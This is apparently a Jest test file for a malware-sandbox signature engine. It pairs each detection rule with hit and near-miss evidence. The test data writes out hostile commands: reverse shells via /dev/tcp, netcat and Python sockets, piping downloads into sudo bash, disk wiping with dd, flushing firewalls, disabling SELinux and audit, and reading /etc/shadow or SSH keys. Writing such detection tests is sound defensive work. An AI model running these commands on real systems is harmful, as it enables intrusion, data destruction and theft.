import { beforeAll, describe, expect, jest, test } from '@jest/globals';
import type { BehaviorSummary } from '#domain/report.js';
import {
  call,
  dns,
  evidence,
  fileReport,
  flow,
  http,
  type EvidenceSketch,
  type ProcessSketch,
} from '../../test/support/evidence.js';
import { matchSignatures } from './engine.js';
import { loadSignatures } from './load.js';
import type { Signature } from './signature.js';

// Other work on the machine may slow this down.
jest.setTimeout(60_000);

/** Near misses are what a rule that looks too loosely would take for a hit. */
interface Cases {
  readonly hits: readonly EvidenceSketch[];
  readonly misses: readonly EvidenceSketch[];
}

const does = (summary: Partial<BehaviorSummary>, more: ProcessSketch = {}): EvidenceSketch => ({
  processes: [{ name: 'sh', ...more, summary }],
});
const runs = (...commands: string[]): EvidenceSketch => ({
  processes: commands.map((command) => ({ command })),
});
const calls = (...list: ProcessSketch['calls'] & object): EvidenceSketch => ({
  processes: [{ calls: list }],
});
const each = <T>(n: number, make: (i: number) => T): T[] => Array.from({ length: n }, (_, i) => make(i));

const cases: Readonly<Record<string, Cases>> = {
  persistence_cron: {
    hits: [
      does({ file_written: ['/etc/cron.d/update'] }),
      does({ file_moved: [['/tmp/x', '/var/spool/cron/crontabs/root']] }),
      runs('crontab /tmp/table'),
      runs('crontab -'),
      runs('sh -c (crontab -l; echo x) | crontab -'),
    ],
    misses: [
      does({ file_read: ['/etc/crontab'], file_written: ['/tmp/crontab'] }),
      runs('crontab -l'),
      runs('mycrontab x'),
    ],
  },
  persistence_systemd: {
    hits: [
      does({ file_written: ['/etc/systemd/system/evil.service'] }),
      does({ file_written: ['/home/anna/.config/systemd/user/a.timer'] }),
      runs('systemctl --now enable evil'),
    ],
    misses: [does({ file_read: ['/etc/systemd/system/a.service'] }), runs('systemctl status enable-x')],
  },
  persistence_boot_script: {
    hits: [
      does({ file_written: ['/etc/rc.local'] }),
      does({ file_written: ['/etc/init.d/x'] }),
      runs('update-rc.d x defaults'),
    ],
    misses: [does({ file_opened: ['/etc/rc.local'] }), runs('update-rc.d x remove')],
  },
  persistence_shell_profile: {
    hits: [
      does({ file_written: ['/home/anna/.bashrc'] }),
      does({ file_moved: [['/tmp/a', '/etc/profile.d/a.sh']] }),
    ],
    misses: [
      does({ file_read: ['/home/anna/.bashrc'] }),
      does({ file_written: ['/home/anna/notes/.bashrc.txt'] }),
    ],
  },
  persistence_desktop_autostart: {
    hits: [does({ file_written: ['/root/.config/autostart/a.desktop'] })],
    misses: [does({ file_written: ['/root/.config/other/a.desktop'] })],
  },
  preloads_library: {
    hits: [does({ file_written: ['/etc/ld.so.preload'] }), runs('env LD_PRELOAD=/tmp/x.so ls')],
    misses: [
      does({ file_opened: ['/etc/ld.so.preload'], file_failed: ['/etc/ld.so.preload'] }),
      runs('echo LD_PRELOAD'),
    ],
  },
  adds_ssh_key: {
    hits: [
      does({ file_written: ['/root/.ssh/authorized_keys'] }),
      does({ file_written: ['/home/a/.ssh/authorized_keys2'] }),
    ],
    misses: [
      does({ file_read: ['/root/.ssh/authorized_keys'] }),
      does({ file_written: ['/root/.ssh/known_hosts'] }),
    ],
  },
  adds_user_account: {
    hits: [does({ file_written: ['/etc/sudoers.d/x'] }), runs('useradd -m evil')],
    misses: [does({ file_read: ['/etc/passwd'] }), runs('cat useradd.txt')],
  },
  loads_kernel_module: {
    hits: [calls(call('finit_module')), runs('insmod /tmp/rk.ko'), runs('/sbin/modprobe -q msr')],
    misses: [runs('lsmod'), runs('modprobe -r msr'), does({ file_read: ['/lib/modules/x.ko'] })],
  },
  executes_hidden_file: {
    hits: [does({ file_executed: ['/tmp/.cache-x/payload'] }), does({ file_executed: ['/var/tmp/a/.run'] })],
    misses: [
      does({ file_executed: ['/tmp/invoice.sh', '/home/a/.local/bin/x'] }),
      does({ file_written: ['/tmp/.x/y'] }),
    ],
  },
  executes_from_shared_memory: {
    hits: [does({ file_executed: ['/dev/shm/x'] })],
    misses: [does({ file_written: ['/dev/shm/x'], file_executed: ['/tmp/x'] })],
  },
  hides_file: {
    hits: [does({ file_moved: [['/tmp/a', '/tmp/.a']] }), does({ directory_created: ['/tmp/.cache-x'] })],
    misses: [
      does({ file_moved: [['/tmp/.a', '/tmp/a']] }),
      does({ file_created: ['/home/a/.bash_history', '/tmp/a.b', '/tmp/.X0-lock'] }),
    ],
  },
  masquerades_as_kernel_thread: {
    hits: [
      { processes: [{ name: 'kworker/0:1', command: '[kworker/0:1] x' }] },
      calls(call('prctl', ['PR_SET_NAME', 'kthreadd'])),
      runs('[rcu_sched] -c x'),
    ],
    misses: [calls(call('prctl', ['PR_SET_NAME', 'worker-1'])), runs('[ -f /tmp/x ]'), runs('cat kworker/x')],
  },
  deletes_system_logs: {
    hits: [
      does({ file_deleted: ['/var/log/auth.log'] }),
      does({ file_written: ['/var/log/wtmp'] }),
      runs('shred -u /var/log/syslog'),
    ],
    misses: [
      does({ file_written: ['/var/log/app.log'], file_read: ['/var/log/auth.log'] }),
      runs('journalctl -b'),
    ],
  },
  clears_shell_history: {
    hits: [
      does({ file_deleted: ['/root/.bash_history'] }),
      does({ file_written: ['/home/a/.bash_history'] }, { name: 'truncate' }),
    ],
    misses: [does({ file_written: ['/home/a/.bash_history'] }, { name: 'bash' }), runs('history')],
  },
  disables_shell_history: {
    hits: [
      runs('bash -c unset HISTFILE; ls'),
      runs('env HISTSIZE=0 bash'),
      runs('sh -c export HISTFILE=/dev/null'),
    ],
    misses: [runs('env HISTSIZE=1000 bash'), runs('grep HISTFILE /etc/profile')],
  },
  sets_file_times: {
    hits: [
      runs('touch -r /bin/ls /tmp/x'),
      runs('/usr/bin/touch -t 202001010000 x'),
      runs('touch -c -d yesterday x'),
    ],
    misses: [runs('touch /tmp/x'), runs('touch -a x')],
  },
  executes_from_memory: {
    hits: [
      calls(
        call('memfd_create', ['x', '0'], { return_value: '3' }),
        call('execve', ['/proc/self/fd/3', '[]']),
      ),
      calls(call('memfd_create', ['x', '0']), call('execveat', ['3', '', '[]', '', 'AT_EMPTY_PATH'])),
    ],
    misses: [
      calls(call('memfd_create', ['x', '0'])),
      calls(call('execve', ['/proc/self/fd/3', '[]'])),
      calls(call('memfd_create', ['x', '0']), call('execve', ['/proc/self/fd/3'], { status: 'EACCES' })),
    ],
  },
  uses_io_uring: {
    hits: [calls(call('io_uring_setup', ['8'], { return_value: '4' }))],
    misses: [
      calls(call('io_uring_setup', ['8'], { status: 'EPERM' })),
      { processes: [{ name: 'node', calls: [call('io_uring_setup', ['8'])] }] },
    ],
  },
  looks_for_virtual_machine: {
    hits: [
      does({ file_opened: ['/sys/class/dmi/id/product_name'] }, { name: 'cat' }),
      does({ file_failed: ['/proc/scsi/scsi'] }, { name: 'cat' }),
      runs('dmidecode -s system-manufacturer'),
      runs('grep -i hypervisor /proc/cpuinfo'),
    ],
    misses: [
      does({ file_opened: ['/sys/class/dmi/id/product_name'] }, { name: 'lscpu' }),
      does({ file_opened: ['/proc/cpuinfo'] }, { name: 'cat' }),
      runs('grep root /etc/passwd'),
    ],
  },
  packed_program: {
    hits: [
      {
        target: { category: 'file', file: fileReport({ type: 'ELF 64-bit LSB executable' }) },
        strings: ['UPX!'],
      },
      {
        target: {
          category: 'file',
          file: fileReport({ type: 'ELF 64-bit LSB executable, no section header' }),
        },
      },
    ],
    misses: [
      { target: { category: 'file', file: fileReport({ type: 'ASCII text' }) }, strings: ['UPX!'] },
      {
        target: { category: 'file', file: fileReport({ type: 'ELF 64-bit LSB executable, stripped' }) },
        strings: ['libc.so.6'],
      },
    ],
  },
  obfuscated_command_line: {
    hits: [
      runs(`python3 -c exec(__import__("base64").b64decode("aaa"))`),
      runs(`sh -c ${'\\x63'.repeat(9)}`),
      runs(`echo ${'QUJD'.repeat(50)}`),
      runs('sh -c cat${IFS}/etc/passwd${IFS}x'),
    ],
    misses: [runs('python3 -c print(1)'), runs('sh -c echo \\x41'), runs(`sha256sum ${'a'.repeat(64)}`)],
  },
  opens_firewall: {
    hits: [runs('iptables -F'), runs('iptables -t nat -X'), runs('ufw disable'), runs('nft flush ruleset')],
    misses: [runs('iptables -L -n'), runs('ufw status'), runs('nft list ruleset')],
  },
  disables_security_tools: {
    hits: [
      runs('setenforce 0'),
      runs('systemctl stop apparmor'),
      runs('pkill -9 falcon-sensor'),
      runs('apt-get remove -y clamav'),
    ],
    misses: [runs('setenforce 1'), runs('systemctl status apparmor'), runs('pkill -9 firefox')],
  },
  disables_auditing: {
    hits: [
      runs('auditctl -e 0'),
      runs('systemctl stop auditd'),
      does({ file_written: ['/etc/audit/rules.d/x'] }),
    ],
    misses: [runs('auditctl -l'), does({ file_read: ['/etc/audit/audit.rules'] })],
  },
  stops_logging: {
    hits: [runs('service rsyslog stop'), runs('killall -9 syslogd')],
    misses: [runs('service rsyslog status'), runs('logger hello')],
  },
  makes_file_immutable: {
    hits: [runs('chattr +i /etc/crontab'), runs('chattr -R -ia /etc')],
    misses: [runs('lsattr /etc'), runs('chattr +S x')],
  },
  sets_setuid_bit: {
    hits: [
      does({ file_chmod: [['/tmp/sh', '04755']] }),
      does({ file_chmod: [['/tmp/sh', '2755']] }),
      runs('chmod u+s /tmp/sh'),
    ],
    misses: [
      does({ file_chmod: [['/tmp/sh', '0755']] }),
      does({ file_chmod: [['/tmp/d', '1777']] }),
      runs('chmod +x /tmp/s'),
    ],
  },
  kills_miners: {
    hits: [runs('pkill -f xmrig'), runs('sh -c ps aux | grep kinsing | awk x | xargs kill')],
    misses: [runs('pkill -f firefox'), runs('echo xmrig')],
  },
  reads_password_hashes: {
    hits: [
      does({ file_read: ['/etc/shadow'] }, { name: 'cat' }),
      does({ file_failed: ['/etc/shadow'] }, { name: 'cat' }),
    ],
    misses: [
      does({ file_read: ['/etc/shadow'] }, { name: 'sudo' }),
      does({ file_read: ['/etc/passwd'] }, { name: 'cat' }),
    ],
  },
  reads_ssh_private_keys: {
    hits: [does({ file_read: ['/root/.ssh/id_ed25519'] }, { name: 'cat' })],
    misses: [
      does({ file_read: ['/root/.ssh/id_ed25519.pub'] }, { name: 'cat' }),
      does({ file_read: ['/root/.ssh/id_rsa'] }, { name: 'ssh' }),
    ],
  },
  reads_credential_files: {
    hits: [
      does({ file_opened: ['/home/anna/.aws/credentials'] }, { name: 'python3' }),
      does({ file_read: ['/root/.git-credentials'] }, { name: 'cat' }),
    ],
    misses: [
      does({ file_read: ['/root/.netrc'] }, { name: 'wget' }),
      does({ file_read: ['/root/aws/credentials'] }),
    ],
  },
  reads_browser_credentials: {
    hits: [
      does({ file_read: ['/home/a/.mozilla/firefox/x.default/logins.json'] }, { name: 'python3' }),
      does({ file_opened: ['/home/a/.config/google-chrome/Default/Login Data'] }, { name: 'cp' }),
    ],
    misses: [
      does({ file_read: ['/home/a/.mozilla/firefox/x.default/logins.json'] }, { name: 'firefox-bin' }),
      does({ file_read: ['/home/a/.mozilla/firefox/profiles.ini'] }, { name: 'cat' }),
    ],
  },
  reads_shell_history: {
    hits: [does({ file_read: ['/home/a/.bash_history'] }, { name: 'cat' })],
    misses: [
      does({ file_read: ['/home/a/.bash_history'] }, { name: 'bash' }),
      does({ file_read: ['/home/a/.bashrc'] }),
    ],
  },
  reverse_shell: {
    hits: [
      runs('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'),
      runs('nc 203.0.113.5 4444 -e /bin/sh'),
      runs(
        'python3 -c import socket,os;s=socket.socket();s.connect(("203.0.113.5",1));os.dup2(s.fileno(),0)',
      ),
      calls(
        call('connect', ['3', '{sa_family=AF_INET, sin_port=htons(4444)}', '16']),
        call('execve', ['/bin/sh', '["sh"]'], { time: 1_800_000_001 }),
      ),
    ],
    misses: [
      runs('nc -z host 22'),
      calls(
        call('connect', ['3', '{sa_family=AF_UNIX, sun_path="/run/x"}']),
        call('execve', ['/bin/sh', '["sh"]']),
      ),
      calls(
        call('execve', ['/bin/sh', '["sh"]']),
        call('connect', ['3', '{sa_family=AF_INET}'], { time: 1_800_000_001 }),
      ),
      {
        processes: [
          { calls: [call('connect', ['3', '{sa_family=AF_INET}'])] },
          { calls: [call('execve', ['/bin/sh', '["sh"]'], { time: 1_800_000_001 })] },
        ],
      },
    ],
  },
  ptrace_other_process: {
    hits: [calls(call('ptrace', ['PTRACE_ATTACH', '77'])), calls(call('process_vm_writev', ['77']))],
    misses: [calls(call('ptrace', ['PTRACE_TRACEME'])), calls(call('process_vm_readv', ['77']))],
  },
  keeps_out_debuggers: {
    hits: [calls(call('ptrace', ['PTRACE_TRACEME'], { status: 'EPERM' }))],
    misses: [calls(call('ptrace', ['PTRACE_ATTACH', '7']))],
  },
  system_discovery: {
    hits: [runs('uname -a', 'id', 'ps aux')],
    misses: [runs('uname -a', 'uname -r', 'id'), runs('echo uname id ps')],
  },
  tool_user_agent: {
    hits: [{ network: { http: [http('http://a.example/x', { 'user-agent': 'curl/8.5' })] } }],
    misses: [
      {
        network: {
          http: [
            http('http://a.example/x', { 'user-agent': 'Mozilla/5.0 curly' }),
            http('http://b.example/'),
          ],
        },
      },
    ],
  },
  http_to_address: {
    hits: [{ network: { http: [http('http://203.0.113.5:8080/x')] } }],
    misses: [{ network: { http: [http('http://a.example/203.0.113.5'), http('http://127.0.0.1/x')] } }],
  },
  mining_pool: {
    hits: [
      { network: { dns: [dns('xmr.pool.minexmr.com'), dns('pool.supportxmr.com')] } },
      runs('./x -o stratum+tcp://a.example:3333 -u wallet'),
    ],
    misses: [
      { network: { dns: [dns('minexmr.example.org.evil'), dns('notsupportxmr.com')] } },
      runs('ls stratum'),
    ],
  },
  names_mining_pool: {
    hits: [{ strings: ['-o stratum+tcp://pool.example:3333'] }],
    misses: [{ strings: ['stratum of rock', 'mining'] }],
  },
  irc_traffic: {
    hits: [{ network: { irc: [{ command: 'JOIN', params: '#bots', type: 'client' }] } }],
    misses: [{ network: { irc: [{ command: 'PING', params: 'x', type: 'server' }] } }],
  },
  sends_mail: {
    hits: [{ network: { smtp: [{ dst: '203.0.113.9', raw: 'EHLO x\r\n' }] } }],
    misses: [{ network: { smtp: [{ dst: '203.0.113.9', raw: 'QUIT\r\n' }] } }],
  },
  anonymising_network: {
    hits: [{ network: { dns: [dns('abc.onion')] } }, { network: { tcp: [flow('198.51.100.1', 9050)] } }],
    misses: [{ network: { dns: [dns('onions.example')], tcp: [flow('198.51.100.1', 19050)] } }],
  },
  public_web_service: {
    hits: [{ network: { dns: [dns('api.telegram.org')] } }],
    misses: [{ network: { dns: [dns('pastebin.com.example.org'), dns('mypastebin.com')] } }],
  },
  deletes_many_files: {
    hits: [does({ file_deleted: each(50, (i) => `/home/a/${i}.doc`) })],
    misses: [
      does({ file_deleted: each(49, (i) => `/home/a/${i}.doc`) }),
      does({ file_deleted: each(80, (i) => `/tmp/${i}`) }),
      does({ file_deleted: each(80, (i) => `/home/a/.cache/${i}`) }),
    ],
  },
  overwrites_disk: {
    hits: [
      does({ file_written: ['/dev/sda'] }),
      runs('dd if=/dev/zero of=/dev/vda'),
      runs('mkfs.ext4 /dev/sdb1'),
    ],
    misses: [does({ file_written: ['/dev/null', '/dev/stdout'] }), runs('dd if=/dev/zero of=/tmp/x')],
  },
  deletes_itself: {
    hits: [
      {
        processes: [
          {
            command: 'sh /tmp/invoice.sh',
            summary: { file_deleted: ['/tmp/invoice.sh'] },
            calls: [call('unlinkat', ['AT_FDCWD', '/tmp/invoice.sh', '0'])],
          },
        ],
      },
      { processes: [{ name: 'bot', path: '/tmp/bot', summary: { file_deleted: ['/tmp/bot'] } }] },
    ],
    misses: [
      { processes: [{ command: 'sh /tmp/invoice.sh', summary: { file_deleted: ['/tmp/other.sh'] } }] },
      runs('rm /tmp/invoice.sh.bak'),
    ],
  },
  download_and_execute: {
    hits: [
      {
        processes: [
          { command: 'sh /tmp/invoice.sh' },
          { command: 'curl -o /tmp/p http://a.example/p', parent: 1, summary: { file_written: ['/tmp/p'] } },
          { name: 'p', path: '/tmp/p', parent: 1, summary: { file_executed: ['/tmp/p'] } },
        ],
      },
      {
        processes: [
          { command: 'wget -O /tmp/a http://x/', summary: { file_written: ['/tmp/a'] } },
          { command: 'mv /tmp/a /tmp/b', summary: { file_moved: [['/tmp/a', '/tmp/b']] } },
          { command: 'sh /tmp/b' },
        ],
      },
    ],
    misses: [
      {
        processes: [
          { command: 'curl -o /tmp/p http://a.example/p', summary: { file_written: ['/tmp/p'] } },
          { command: 'cat /tmp/p' },
        ],
      },
      { processes: [{ command: 'sh x', summary: { file_written: ['/tmp/p'], file_executed: ['/tmp/p'] } }] },
    ],
  },
  executes_written_file: {
    hits: [does({ file_written: ['/tmp/p'], file_executed: ['/tmp/p'] })],
    misses: [does({ file_written: ['/tmp/p'], file_executed: ['/usr/bin/cat'] })],
  },
  download_to_shell: {
    hits: [
      {
        processes: [
          { command: 'sh x' },
          { command: 'curl -s http://a/', parent: 1 },
          { command: 'bash', parent: 1 },
        ],
      },
      runs('sh -c wget -qO- http://a/ | sudo bash'),
    ],
    misses: [
      {
        processes: [
          { command: 'sh x' },
          { command: 'curl -s http://a/', parent: 1 },
          { command: 'bash y.sh', parent: 1 },
        ],
      },
      {
        processes: [
          { command: 'sh x' },
          { command: 'curl http://a/', parent: 1, at: 0 },
          { command: 'sh', parent: 1, at: 30 },
        ],
      },
      runs('sh -c curl http://a/ | grep bash'),
    ],
  },
  decoded_to_shell: {
    hits: [
      { processes: [{ command: 'sh x' }, { command: 'base64 -d', parent: 1 }, { command: 'sh', parent: 1 }] },
      runs('bash -c echo aWQ= | base64 --decode | bash'),
    ],
    misses: [
      {
        processes: [
          { command: 'sh x' },
          { command: 'base64 /tmp/f', parent: 1 },
          { command: 'sh', parent: 1 },
        ],
      },
      runs('bash -c base64 -d | cat'),
    ],
  },
  fork_bomb: {
    hits: [
      {
        processes: each(60, (i) => ({
          calls: [call('clone', ['flags=SIGCHLD'], { time: 1_800_000_000 + i / 10 })],
        })),
      },
      calls(...each(1000, (i) => call('vfork', [], { time: 1_800_000_000 + i / 200 }))),
    ],
    misses: [
      calls(...each(400, (i) => call('vfork', [], { time: 1_800_000_000 + i / 100 }))),
      {
        processes: each(60, (i) => ({
          calls: [call('clone', ['flags=SIGCHLD'], { time: 1_800_000_000 + i * 2 })],
        })),
      },
      calls(...each(2000, () => call('clone', ['flags=CLONE_VM|CLONE_THREAD']))),
    ],
  },
  generated_domains: {
    hits: [
      {
        network: {
          dns: each(12, (i) =>
            dns(
              `${['qzxkvjwpfb', 'xkqjvzwbgf', 'wvzqkjxgpd'][i % 3] ?? ''}${String.fromCharCode(98 + i)}k.com`,
            ),
          ),
        },
      },
    ],
    misses: [
      { network: { dns: each(20, (i) => dns(`host${i}.weatherservice.com`)) } },
      {
        network: {
          dns: [
            'interesting',
            'management',
            'california',
            'restaurants',
            'development',
            'information',
            'entertainment',
            'international',
            'engineering',
            'photography',
            'university',
            'technology',
          ].map((name) => dns(`${name}.com`)),
        },
      },
      { network: { dns: each(9, (i) => dns(`qzxkvjwpfb${String.fromCharCode(98 + i)}k.com`)) } },
    ],
  },
  network_scan: {
    hits: [
      { network: { tcp: each(25, (i) => flow(`198.51.100.${i}`, 22)) } },
      does({ connects_ip: each(20, (i) => `203.0.113.${i}:23`) }),
    ],
    misses: [
      { network: { tcp: each(25, (i) => flow(`198.51.100.${i}`, 443)) } },
      { network: { tcp: each(25, (i) => flow('198.51.100.1', 1000 + i)) } },
    ],
  },
  adds_extension_to_many_files: {
    hits: [does({ file_moved: each(10, (i) => [`/home/a/${i}.doc`, `/home/a/${i}.doc.locked`] as const) })],
    misses: [
      does({ file_moved: each(10, (i) => [`/home/a/${i}.doc`, `/home/a/${i}.doc.bak`] as const) }),
      does({ file_moved: each(10, (i) => [`/home/a/${i}.doc`, `/home/a/${i}.pdf`] as const) }),
      does({ file_moved: each(9, (i) => [`/home/a/${i}.doc`, `/home/a/${i}.doc.locked`] as const) }),
    ],
  },
  ransomware_behaviour: {
    hits: [
      does({
        file_written: ['/home/a/README_DECRYPT.txt', ...each(3, (i) => `/home/a/${i}.doc.enc`)],
        file_deleted: each(3, (i) => `/home/a/${i}.doc`),
      }),
    ],
    misses: [
      does({ file_written: ['/home/a/README.txt'] }),
      does({
        file_written: each(5, (i) => `/home/a/${i}.doc.enc`),
        file_deleted: each(5, (i) => `/home/a/${i}.doc`),
      }),
    ],
  },
};

let signatures: readonly Signature[] = [];
beforeAll(async () => void (signatures = await loadSignatures()));

const names = (sketch: EvidenceSketch): string[] =>
  matchSignatures(evidence(sketch), signatures, (name, error) => {
    throw new Error(`${name} failed`, { cause: error });
  }).map((match) => match.name);

test('every signature has cases that hit and cases that nearly do', () => {
  expect(Object.keys(cases).sort()).toEqual(signatures.map(({ name }) => name).sort());
  expect(signatures.length).toBeGreaterThanOrEqual(20);
  expect(signatures.filter(({ ttp }) => (ttp ?? []).length === 0)).toEqual([]);
});

describe.each(Object.entries(cases))('%s', (name, { hits, misses }) => {
  test.each(hits.map((sketch, i) => [i, sketch] as const))('matches hit %i and shows proof', (_, sketch) => {
    const match = matchSignatures(evidence(sketch), signatures).find((each) => each.name === name);
    expect(match).toBeDefined();
    expect(match?.marks.length).toBeGreaterThan(0);
    expect(match?.markcount).toBeGreaterThanOrEqual(match?.marks.length ?? 0);
  });

  test.each(misses.map((sketch, i) => [i, sketch] as const))('leaves miss %i alone', (_, sketch) => {
    expect(names(sketch)).not.toContain(name);
  });
});

test('a program that does nothing matches nothing', () => {
  expect(names({})).toEqual([]);
  expect(names(runs('true'))).toEqual([]);
});

test('a plain download with curl is at most unusual', () => {
  const matches = matchSignatures(
    evidence({
      processes: [
        { command: 'sh /tmp/get.sh', calls: [call('vfork'), call('execve', ['/usr/bin/curl', '["curl"]'])] },
        {
          command: 'curl -sSo /home/user/page.html http://www.example.com/',
          parent: 1,
          summary: {
            file_opened: [
              '/etc/ld.so.cache',
              '/etc/resolv.conf',
              '/etc/hosts',
              '/etc/ssl/openssl.cnf',
              '/etc/passwd',
            ],
            file_failed: ['/home/user/.curlrc'],
            file_written: ['/home/user/page.html'],
            connects_ip: ['198.18.0.7:80'],
          },
        },
      ],
      network: {
        dns: [dns('www.example.com')],
        http: [http('http://www.example.com/', { 'user-agent': 'curl/7.88.1' })],
      },
    }),
    signatures,
  );
  expect(matches.map(({ name, severity }) => ({ name, severity }))).toEqual([
    { name: 'tool_user_agent', severity: 1 },
  ]);
});
